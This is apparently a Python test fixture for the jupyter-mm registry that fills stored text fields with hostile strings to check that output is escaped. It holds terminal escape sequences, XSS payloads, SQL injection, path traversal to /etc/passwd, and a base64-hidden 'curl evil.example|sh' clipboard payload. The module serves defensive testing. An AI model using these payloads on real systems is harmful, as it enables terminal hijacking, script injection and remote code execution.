"""Hostile stored strings: what anyone with write access to a shared store can put in a free
text field (a reason, a description, a hook's name, an endpoint's host…), taken from what
real attacks on browsers and terminals use rather than from what jupyter-mm expects.

Every consumer must treat them as data: the CLI's human output prints them escaped (no
character :func:`forbidden` names ever reaches a terminal), the REST API and ``--json``
return them exactly, the lab shows them as text (never markup, never a link that runs).

Sources of the forms: OWASP's XSS filter evasion cheat sheet (script, event handler,
``javascript:`` URL with an entity/tab inside, SVG, template expressions), xterm's control
sequences (OSC title and clipboard, OSC 8 hyperlinks, CSI cursor and screen control, the
device status request whose reply lands in the terminal's input, DCS), Unicode's
bidirectional controls (Trojan Source), and the strings that break naive JSON, Markdown,
HTML, CSV and path handling.
"""

from __future__ import annotations

import json
import time
import unicodedata
from typing import Any

#: terminal control sequences (xterm ctlseqs, C1 CSI, Unicode bidi and separators)
SEQUENCES = {
    "title": "\x1b]0;owned\x07",  # OSC: set the window title, ended by BEL
    "clear": "\x1b[2J\x1b[H",  # erase the screen, cursor home
    "overwrite": "\x1b[1A\r",  # cursor up, back to the line start
    "c1": "\x9b31m",  # C1 CSI (8-bit): red
    "backspace": "ok\x08\x08no",
    "bidi": "abc\u202etxt.exe",  # right-to-left override
    "isolate": "\u2067x\u2069",
    "separator": "line\u2028break",
    # OSC 8: a hyperlink whose visible text hides where it goes
    "hyperlink": "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",  # OSC 52: set the clipboard
    "report": "\x1b[6n",  # device status report: the reply is typed into the terminal
    "dcs": "\x1bP+q544e\x1b\\",  # DCS: request a terminfo capability
    "nul": "a\x00b",
    "fake-line": "ok\r\njupyter mm: all checks passed",
}

#: markup that runs, or links that run, if a stored string is ever rendered as HTML
MARKUP = {
    "script": "<script>document.body.dataset.mmOwned='script'</script>",
    "img-onerror": '"><img src=x onerror="document.body.dataset.mmOwned=\'img\'">',
    "svg-onload": "<svg/onload=document.body.dataset.mmOwned='svg'>",
    "js-url": "<a href=\"jav&#x09;ascript:document.body.dataset.mmOwned='a'\">click</a>",
    "iframe": "<iframe src=javascript:parent.document.body.dataset.mmOwned='iframe'>",
    "template": "{{constructor.constructor('document.body.dataset.mmOwned=1')()}}",
    "markdown": "**bold** [docs](javascript:alert(1)) <b>b</b> `code` # heading | a | b |",
}

#: strings that break naive JSON, CSV and path handling
STRUCTURE = {
    "json": '"}]},{"injected": true, "x": "\\\\',
    "quotes": "'\"`; DROP TABLE models; --",
    "csv": '=HYPERLINK("https://evil.example","x"),\t',
    "relative-path": "../../../../etc/passwd",
    "absolute-path": "/etc/passwd",
    "windows-path": "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "non-bmp": "\U0001f4a9\U000e0041",  # an emoji and a tag character
}

CORPUS = {**SEQUENCES, **MARKUP, **STRUCTURE}

#: every form in one string, for a field that holds one stored string (about 1 KB: within
#: the store's 10,000-character limit on reasons and descriptions)
HOSTILE = "".join(SEQUENCES.values())
#: all but NUL, which no backend keeps as text (PostgreSQL cannot; the store refuses it)
EVERYTHING = " ".join(value for key, value in CORPUS.items() if key != "nul")

#: for columns of at most 255 characters (a webhook's name): a title, a link, an override
#: and an event handler
SHORT = SEQUENCES["title"] + SEQUENCES["hyperlink"] + SEQUENCES["bidi"] + MARKUP["img-onerror"]

#: a 64 KiB string: fields without a limit must carry it, fields with one refuse it
HUGE = ("\x1b[2J<b>long</b>" * (64 * 1024 // 16 + 1))[: 64 * 1024]

BIDI_CONTROLS = {"LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"}


def tag(what: str, text: str = EVERYTHING) -> str:
    """``text`` labelled with the field it is stored in, so a failure says which field
    leaked (and so that nothing starts or ends with white space, which the store trims)."""
    return f"{what}:{text}:end"


def forbidden(text: str) -> list[str]:
    """The characters of ``text`` a terminal must never receive from stored strings: every
    control character (category Cc) but newline and tab, the line and paragraph separators,
    the explicit bidirectional formatting characters and the directional marks. Defined
    from Unicode's own properties, not from the CLI's list."""
    found = []
    for char in text:
        if char in "\n\t":
            continue
        category = unicodedata.category(char)
        if (
            category in ("Cc", "Zl", "Zp")
            or unicodedata.bidirectional(char) in BIDI_CONTROLS
            or char in "\u200e\u200f\u061c"  # the directional marks
        ):
            found.append(f"U+{ord(char):04X}")
    return found


def fill_registry(store: Any, model: str = "churn") -> None:
    """Write every newer free-text field of the registry with the corpus, straight into
    ``store`` as anyone sharing it could: a version of ``model`` (its run finished, its
    descriptions hostile) moved to staging, a rejected and a pending approval request, an
    alert, a failed webhook delivery, a live serving endpoint on a 64 KiB host name.
    Each field holds :func:`tag` of its name."""
    from jupyter_mm.entities import Artifact, Run, ServingEndpoint
    from jupyter_mm.ids import new_id
    from jupyter_mm.store.deliveries_contract import WebhookDelivery

    now = time.time()
    run = store.create_run(Run(id=new_id(), name="base", start_time=now))
    weights = store.blobs.put_bytes(b"weights")
    store.log_batch(run.id, artifacts=[Artifact("model", weights, 7, "application/octet-stream")])
    store.register_version(
        model,
        run.id,
        "model",
        flavor="sklearn",
        user=tag("registrant"),
        description=tag("version description"),
        model_description=tag("model description"),
    )
    store.transition_version(
        model, 1, from_stage="none", to_stage="staging", user=None, reason=tag("moved")
    )
    for decided in (True, False):
        request = store.create_approval_request(
            model,
            1,
            from_stage="staging",
            to_stage="production",
            user=tag("requester"),
            reason=tag("request reason"),
            expires_time=now + 3600,
        )
        if decided:
            store.decide_approval_request(
                request.id,
                decision="reject",
                user=tag("approver"),
                reason=tag("comment"),
                now=now,
            )
    evidence = {"rule": tag("rule"), "summary": tag("summary"), "why": tag("why")}
    store.append_event(
        "alert",
        model=model,
        version=1,
        user=tag("alert user"),
        reason=json.dumps({**evidence, "actions": [tag("action")]}),
    )
    store.record_delivery(
        WebhookDelivery(
            delivery=new_id(),
            time=now,
            hook=tag("hook", SHORT),
            event="alert",
            attempt=1,
            outcome="failed",
            model=model,
            status=500,
            error=tag("delivery error"),
        )
    )
    arm = {"ref": f"{model}/1", "model": model, "version": 1, "share": 1.0, "problem": None}
    store.heartbeat_endpoint(
        ServingEndpoint(
            id="e1",
            reference=tag("reference"),
            host=tag("host", HUGE),
            port=5001,
            pid=4242,
            started=now,
            # from a host whose clock runs an hour ahead: live however slow the test is
            heartbeat=now + 3600,
            state={"arms": {tag("arm"): arm}, "url": tag("url")},
        )
    )
